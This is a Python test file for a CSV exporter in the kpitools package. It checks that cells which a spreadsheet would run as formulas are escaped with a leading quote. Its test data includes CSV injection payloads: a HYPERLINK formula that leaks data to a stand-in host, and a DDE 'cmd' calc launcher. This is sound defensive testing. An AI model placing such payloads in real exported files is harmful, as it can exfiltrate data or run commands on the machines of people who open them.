"""Formula-safe CSV (``kpitools._util.files``): what a spreadsheet would run is made inert."""

from __future__ import annotations

import string

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kpitools._util.files import FORMULA_START, formula_safe, write_csv
from kpitools.cli import main

HOSTILE = ['=HYPERLINK("http://x.example/?leak","y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def test_formula_cells_get_a_quote_and_numbers_never_do():
    table = pd.DataFrame(
        {
            "employee": [*HOSTILE, "\tx", "\rx", "-5", "+1.5e3", "Ann", None],
            "payout": [-1.0, -2.5, 0.0, 1, 2, 3, 4, 5, 6, np.nan],
            "count": [-1, -2, -3, -4, -5, -6, -7, -8, -9, -10],
        }
    )
    safe = formula_safe(table)
    assert safe["employee"].tolist()[:-1] == [
        '\'=HYPERLINK("http://x.example/?leak","y")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1)",
        "'-2+3",
        "'\tx",
        "'\rx",
        "-5",
        "+1.5e3",
        "Ann",
    ]
    assert pd.isna(safe["employee"].iloc[-1])
    pd.testing.assert_series_equal(safe["payout"], table["payout"])
    pd.testing.assert_series_equal(safe["count"], table["count"])
    pd.testing.assert_frame_equal(table, table.copy())  # the input is left as it was


def test_column_names_and_categories_are_escaped_too():
    table = pd.DataFrame({"=cmd": pd.Categorical(["@a", "b"]), "ok": [1, 2]})
    safe = formula_safe(table)
    assert list(safe.columns) == ["'=cmd", "ok"]
    assert safe["'=cmd"].tolist() == ["'@a", "b"]


def test_objects_that_are_not_text_are_kept():
    table = pd.DataFrame({"mixed": pd.Series([-1, float("-inf"), "-x", None], dtype=object)})
    assert formula_safe(table)["mixed"].tolist() == [-1, float("-inf"), "'-x", None]


def test_write_csv_escapes_unless_raw(tmp_path):
    table = pd.DataFrame({"employee": ["@SUM(1)", "007"], "payout": [-1.5, 2.0]})
    write_csv(table, tmp_path / "safe.csv")
    write_csv(table, tmp_path / "raw.csv", raw=True)
    write_csv(table, tmp_path / "plain.csv", plain=True)
    assert (tmp_path / "safe.csv").read_text() == (
        '"employee","payout"\n"\'@SUM(1)",-1.5\n"007",2\n'
    )
    assert (tmp_path / "raw.csv").read_text() == '"employee","payout"\n"@SUM(1)",-1.5\n"007",2\n'
    assert (tmp_path / "plain.csv").read_text() == "employee,payout\n'@SUM(1),-1.5\n007,2\n"


_TEXT = st.text(alphabet=string.printable + "=+-@\t\r\u00e9\u0416", max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.lists(_TEXT, min_size=1, max_size=20))
def test_no_escaped_cell_starts_a_formula_and_unescaping_restores_it(cells):
    safe = formula_safe(pd.DataFrame({"name": pd.Series(cells, dtype=object)}))["name"].tolist()
    for before, after in zip(cells, safe, strict=True):
        if after != before:
            assert after == "'" + before
            assert before.startswith(FORMULA_START)
        else:
            assert not before.startswith(FORMULA_START) or _is_number(before)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.one_of(st.none(), _TEXT), min_size=1, max_size=20),
    st.integers(0, 3),
    st.booleans(),
)
def test_arrow_writer_escapes_exactly_what_formula_safe_does(tmp_path_factory, cells, cut, large):
    """The fast path (first bytes read from arrow's buffers) misses no formula: sliced
    chunks, nulls, empty strings and both string widths; the file reads back escaped."""
    typ = pa.large_string() if large else pa.string()
    whole = pa.array(cells, typ)
    chunks = [whole.slice(0, min(cut, len(cells))), whole.slice(min(cut, len(cells)))]
    table = pa.table({"name": pa.chunked_array(chunks, type=typ)}).to_pandas()
    table["row"] = range(len(cells))  # so that a row of one empty cell is not a blank line
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    write_csv(table, path)
    back = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])["name"].tolist()
    expected = formula_safe(pd.DataFrame({"name": pd.Series(cells, dtype=object)}))["name"]
    want = [None if c is None or c == "" else c for c in expected.tolist()]
    assert [None if pd.isna(b) else b for b in back] == want


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lstrip("+-")[:1] in set(string.digits + ".")


@pytest.mark.parametrize("raw", [False, True])
def test_simulate_escapes_client_names_in_every_csv(tmp_path, raw):
    rows = [
        {"employee": name, "period": f"2025-0{m}", "kpi": "revenue", "actual": 100.0 * m}
        for name in HOSTILE[:3]
        for m in (1, 2)
    ]
    pd.DataFrame(rows).to_csv(tmp_path / "data.csv", index=False)
    (tmp_path / "s.yaml").write_text(
        "name: C\non_target_pay: 10\ncomponents:\n  - kpi: revenue\n    commission: {rate: 0.1}\n"
    )
    (tmp_path / "t.yaml").write_text(
        "name: D\non_target_pay: 10\ncomponents:\n  - kpi: revenue\n    commission: {rate: 0.2}\n"
    )
    args = ["simulate", "--data", str(tmp_path / "data.csv"), "--out", str(tmp_path / "out")]
    args += ["--scheme", str(tmp_path / "s.yaml"), "--scheme", str(tmp_path / "t.yaml")]
    assert main(args + (["--raw-csv"] if raw else [])) == 0
    payouts = pd.read_csv(tmp_path / "out" / "payouts.csv", dtype={"employee": str})
    winners = pd.read_csv(tmp_path / "out" / "winners_losers.csv", dtype={"employee": str})
    expected = set(HOSTILE[:3]) if raw else {"'" + name for name in HOSTILE[:3]}
    assert set(payouts["employee"]) == expected
    assert set(winners["employee"]) == expected
    assert (payouts["payout"] >= 0).all()


@pytest.mark.parametrize("raw", [False, True])
def test_data_aggregate_escapes_unless_raw_csv(tmp_path, raw):
    events = pd.DataFrame(
        {"agent": ["@SUM(1)", "@SUM(1)", "Bo"], "date": ["2025-01-03", "2025-01-09", "2025-01-05"]}
    )
    events.to_csv(tmp_path / "deals.csv", index=False)
    out = tmp_path / "kpis.csv"
    args = ["data", "aggregate", str(tmp_path / "deals.csv"), "--employee", "agent"]
    args += ["--date", "date", "--measure", "deals=count", "--out", str(out)]
    assert main(args + (["--raw-csv"] if raw else [])) == 0
    name = "@SUM(1)" if raw else "'@SUM(1)"
    assert out.read_text().splitlines() == [
        "employee,period,kpi,actual",
        f"{name},2025-01,deals,2",
        "Bo,2025-01,deals,1",
    ]


def test_the_fast_writer_keeps_numbers_written_as_text(tmp_path):
    table = pd.DataFrame({"=id": ["-5", "+1.5e3", "-x", "\tx"], "v": [1, 2, 3, 4]})
    write_csv(table, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == (
        '"\'=id","v"\n"-5",1\n"+1.5e3",2\n"\'-x",3\n"\'\tx",4\n'
    )


@pytest.mark.parametrize("rows", [1, 7, 1_001])
def test_a_table_written_in_slices_is_byte_for_byte_the_one_call_file(tmp_path, monkeypatch, rows):
    rng = np.random.default_rng(rows)
    names = np.array(["Ann", "=HYPERLINK(x)", '"quoted", comma', "-5", "+cmd", "Łódź", ""])
    table = pd.DataFrame(
        {
            "employee": pd.array(names[rng.integers(0, len(names), rows)], dtype="str"),
            "payout": np.where(rng.random(rows) < 0.2, np.nan, rng.normal(1000, 300, rows)),
            "gate_passed": rng.random(rows) < 0.5,
            "count": rng.integers(-3, 3, rows),
            "note": pd.Series(names[rng.integers(0, len(names), rows)], dtype=object),
        }
    )
    monkeypatch.setattr("kpitools._util.threads.PARALLEL_ROWS", 10**12)  # one call
    write_csv(table, tmp_path / "one.csv")
    monkeypatch.setattr("kpitools._util.threads.PARALLEL_ROWS", 1)  # slices in threads
    write_csv(table, tmp_path / "sliced.csv")
    one = (tmp_path / "one.csv").read_bytes()
    assert (tmp_path / "sliced.csv").read_bytes() == one
    assert one.count(b"\n") == rows + 1  # the header once, every row once
